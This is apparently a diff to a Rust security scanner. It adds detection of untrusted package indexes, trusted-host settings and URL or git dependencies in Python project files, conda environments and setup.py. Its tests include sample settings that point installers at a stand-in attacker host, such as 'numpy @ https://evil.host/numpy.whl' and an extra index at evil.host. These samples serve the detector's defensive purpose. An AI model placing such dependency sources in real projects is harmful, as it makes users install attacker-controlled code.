@@ -12,6 +12,9 @@ use crate::scan::Scan;
 /// A list of requirements, one a line.
 pub const REQUIREMENTS: Format = Format { id: "requirements", name: "package list", extensions: &["txt", "in"], refines: &["text"], probe, read };
 
+/// Settings of a project that name packages: `pyproject.toml`, `Pipfile`, `setup.cfg`, `poetry.lock`, `uv.toml`, `pip.conf`.
+pub const PROJECT: Format = Format { id: "project", name: "Python project settings", extensions: &["toml", "cfg", "lock", "conf", "ini"], refines: &["text"], probe: probe_project, read: read_project };
+
 const LONGEST: u64 = 4 << 20;
 
 fn probe(view: View<'_>) -> Match {
@@ -69,6 +72,131 @@ fn read(view: View<'_>, scan: &mut Scan<'_>) -> Result<()> {
     super::plain::hidden(view, scan)
 }
 
+/// Sections by which those files are known: of PEP 621 and 518, of setuptools, Poetry, uv, PDM and Pipenv, of pip's own settings.
+const SECTIONS: &[&str] =
+    &["[project]", "[build-system]", "[dependency-groups]", "[[package]]", "[[source]]", "[packages]", "[dev-packages]", "[options]", "[options.extras_require]", "[easy_install]", "[global]", "[install]", "[[index]]", "[pip]"];
+
+fn probe_project(view: View<'_>) -> Match {
+    let Ok(head) = view.head(64 * 1024) else { return Match::No };
+    if (super::plain::TEXT.probe)(view) == Match::No {
+        return Match::No;
+    }
+    let text = String::from_utf8_lossy(&head);
+    let mut lines = text.lines().map(str::trim).filter(|l| !l.is_empty() && !l.starts_with(['#', ';']));
+    // The first line that says something opens a section, or sets a key in front of the first one.
+    let first = lines.next().unwrap_or("");
+    let opens = |l: &str| l.starts_with('[') && l.ends_with(']') && !l.contains(['"', ',', '{']);
+    if !(opens(first) || first.split_once('=').is_some_and(|(k, _)| name(k.trim()))) {
+        return Match::No;
+    }
+    let known = |l: &str| SECTIONS.contains(&l) || ["[tool.", "[project.", "[[tool.", "[package.", "[options."].iter().any(|p| l.starts_with(p)) && l.ends_with(']');
+    if std::iter::once(first).chain(lines).any(known) { Match::Sure } else { Match::No }
+}
+
+/// Keys whose value is the address of an index, and sections in which a `url` is one.
+const INDEX_KEYS: &[&str] = &["index-url", "index_url", "extra-index-url", "extra_index_url", "find-links", "find_links", "default-index", "dependency_links"];
+const INDEX_SECTIONS: &[&str] = &["source", "tool.poetry.source", "tool.uv.index", "tool.pdm.source", "index", "easy_install"];
+
+/// A line at a time: every quoted text, or the whole value where nothing is quoted, is what pip would be given.
+fn read_project(view: View<'_>, scan: &mut Scan<'_>) -> Result<()> {
+    if view.len() > LONGEST {
+        scan.gap("limit-text");
+    }
+    let text = view.head(LONGEST as usize)?;
+    let (mut at, mut section, mut list) = (0u64, String::new(), String::new());
+    for line in text.split(|b| *b == b'\n') {
+        let words = String::from_utf8_lossy(line);
+        let plain = words.trim();
+        if plain.starts_with('[') && plain.ends_with(']') && !plain.contains(['"', '=', ',']) {
+            section = plain.trim_matches(['[', ']']).to_string();
+            list.clear();
+        } else if !plain.starts_with(['#', ';']) {
+            let (key, value) = match plain.split_once('=') {
+                // A requirement has a second sign or a version behind the first; a key is one word.
+                Some((key, value)) if !value.starts_with('=') && !key.contains([' ', '<', '>', '!', '~', '"', '[', '@', ':']) || plain.split_once(" = ").is_some_and(|(k, _)| !k.trim().contains(['@', '<', '>'])) => (key.trim().trim_matches('"'), value.trim()),
+                _ => (list.as_str(), plain),
+            };
+            if let Some(what) = project_line(&section, key, value) {
+                scan.state(view, at, line.len() as u64, Fact::PackageSource { what, line: crate::secret::masked(plain) });
+            }
+            let key = key.to_string();
+            list = key;
+        }
+        at += line.len() as u64 + 1;
+    }
+    super::secrets::inspect(view, scan)?;
+    super::plain::hidden(view, scan)
+}
+
+/// Where the value of a key sends an installer.
+fn project_line(section: &str, key: &str, value: &str) -> Option<&'static str> {
+    // Addresses for people.
+    if section.ends_with("urls") {
+        return None;
+    }
+    let quoted: Vec<&str> = value.split(['"', '\'']).skip(1).step_by(2).collect();
+    let texts = if quoted.is_empty() { vec![value] } else { quoted };
+    if matches!(key, "trusted-host" | "trusted_host" | "allow-insecure-host") && !texts.iter().all(|t| t.is_empty()) {
+        return Some("trusted-host");
+    }
+    if INDEX_KEYS.contains(&key) || key == "url" && INDEX_SECTIONS.contains(&section) {
+        return texts.iter().find_map(|t| source(&format!("--index-url {t}")));
+    }
+    // `name = { git = "https://…" }`, and lock files that say the same over several lines.
+    let depends = section.contains("dependencies") || section.contains("packages") || section.starts_with("tool.uv.sources") || section == "package.source" || section.contains("dependency-groups");
+    let from = |word: &str| {
+        let (_, rest) = value.split_once(word)?;
+        let rest = rest.trim_start().strip_prefix('=')?.trim_start();
+        rest.strip_prefix(['"', '\''])?.split(['"', '\'']).next()
+    };
+    if depends && value.starts_with('{') {
+        if let Some(address) = from("git").or_else(|| from("hg")) {
+            return source(&format!("git+{address}"));
+        }
+        if let Some(address) = from("url").or_else(|| from("file")) {
+            return source(&format!("{address}#egg=x"));
+        }
+        return from("path").map(|_| "path");
+    }
+    if section == "package.source" && key == "url" {
+        return texts.first().and_then(|t| source(&format!("{t}#egg=x")));
+    }
+    texts.iter().find_map(|t| source(t.trim()).filter(|what| *what != "path" || depends))
+}
+
+/// What the quoted texts of a `setup.py` send an installer to; what the file does besides is read as Python.
+pub fn in_setup(view: View<'_>, source_text: &[u8], scan: &mut Scan<'_>) {
+    let text = String::from_utf8_lossy(source_text);
+    if !text.contains("setup(") || !(text.contains("setuptools") || text.contains("distutils")) {
+        return;
+    }
+    let mut at = 0u64;
+    for line in source_text.split(|b| *b == b'\n') {
+        let words = String::from_utf8_lossy(line);
+        let links = words.contains("dependency_links");
+        for quoted in words.split(['"', '\'']).skip(1).step_by(2) {
+            let what = if links && quoted.contains("://") { source(&format!("--find-links {quoted}")) } else { source(quoted.trim()).filter(|what| *what != "path") };
+            if let Some(what) = what {
+                scan.state(view, at, line.len() as u64, Fact::PackageSource { what, line: crate::secret::masked(words.trim()) });
+            }
+        }
+        at += line.len() as u64 + 1;
+    }
+}
+
+/// What a value of a conda environment, or of another list in YAML, sends an installer to: channels with addresses of their own, and
+/// the lines that pip is given.
+pub fn listed(key: &str, value: &str) -> Option<&'static str> {
+    let value = value.trim();
+    match key {
+        "channels" | "default_channels" if value.contains("://") => source(&format!("--index-url {value}")),
+        "index_url" | "extra_index_url" | "find_links" => source(&format!("--index-url {value}")),
+        "trusted_host" if !value.is_empty() => Some("trusted-host"),
+        "pip" | "packages" | "dependencies" | "python_packages" | "pip_args" | "requirements" | "install_requires" | "run" => source(value),
+        _ => None,
+    }
+}
+
 /// Hosts that publish what the registry's packages are built from, and the registries themselves.
 const KNOWN: &[&str] = &[
     "pypi.org",
@@ -83,6 +211,8 @@ const KNOWN: &[&str] = &[
     "data.pyg.org",
     "conda.anaconda.org",
     "pypi.anaconda.org",
+    "repo.anaconda.com",
+    "repo.prefix.dev",
     "gitlab.com",
     "flashinfer.ai",
     "test.pypi.org",
@@ -151,5 +281,34 @@ mod tests {
         assert_eq!(source("foo @ https://evil.host/foo.whl"), Some("other-address"));
         assert_eq!(source("git+https://github.com/huggingface/transformers"), Some("address"));
         assert_eq!(source("torch==2.1"), None);
+    }
+
+    #[test]
+    fn projects_and_where_they_send() {
+        let stated = |text: &str| {
+            let report = crate::scan(&text.as_bytes().to_vec(), "pyproject.toml", crate::Lang::En);
+            assert_eq!(report.formats, ["project"], "{text}");
+            report.findings.into_iter().map(|f| f.rule).collect::<Vec<_>>()
+        };
+        let good = "[build-system]\nrequires = [\"setuptools>=61\", \"wheel\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"m\"\nreadme = \"README.md\"\ndependencies = [\n    \"torch>=2.0\",\n    \"numpy\",\n]\n\n[project.urls]\nHomepage = \"https://example.org/m\"\n";
+        assert!(stated(good).is_empty());
+        assert_eq!(stated(&good.replace("\"numpy\"", "\"numpy @ https://evil.host/numpy.whl\"")), ["WS652"]);
+        assert_eq!(stated(&good.replace("\"wheel\"", "\"wheel @ git+https://github.com/pypa/wheel\"")), ["WS653"]);
+        assert_eq!(stated("[tool.poetry]\nname = \"m\"\n\n[[tool.poetry.source]]\nname = \"x\"\nurl = \"https://evil.host/simple\"\n"), ["WS651"]);
+        assert_eq!(stated("[tool.poetry.dependencies]\nx = { git = \"https://evil.host/x.git\", rev = \"main\" }\n"), ["WS652"]);
+        assert_eq!(stated("[[source]]\nurl = \"https://pypi.org/simple\"\nverify_ssl = true\n\n[packages]\nrequests = \"*\"\n"), Vec::<String>::new());
+        assert_eq!(stated("[metadata]\nname = m\n\n[options]\ninstall_requires =\n    torch>=2\n    evil @ http://evil.host/e.tar.gz\n"), ["WS652"]);
+        assert_eq!(stated("[global]\nextra-index-url = https://evil.host/simple\n"), ["WS651"]);
+    }
+
+    #[test]
+    fn lists_in_yaml() {
+        assert_eq!(listed("channels", "conda-forge"), None);
+        assert_eq!(listed("channels", "https://evil.host/channel"), Some("other-index"));
+        assert_eq!(listed("channels", "https://conda.anaconda.org/conda-forge"), None);
+        assert_eq!(listed("pip", "--extra-index-url https://evil.host/simple"), Some("other-index"));
+        assert_eq!(listed("pip", "git+https://evil.host/x"), Some("other-address"));
+        assert_eq!(listed("pip", "mlflow==2.9"), None);
+        assert_eq!(listed("dependencies", "python=3.10"), None);
     }
 }
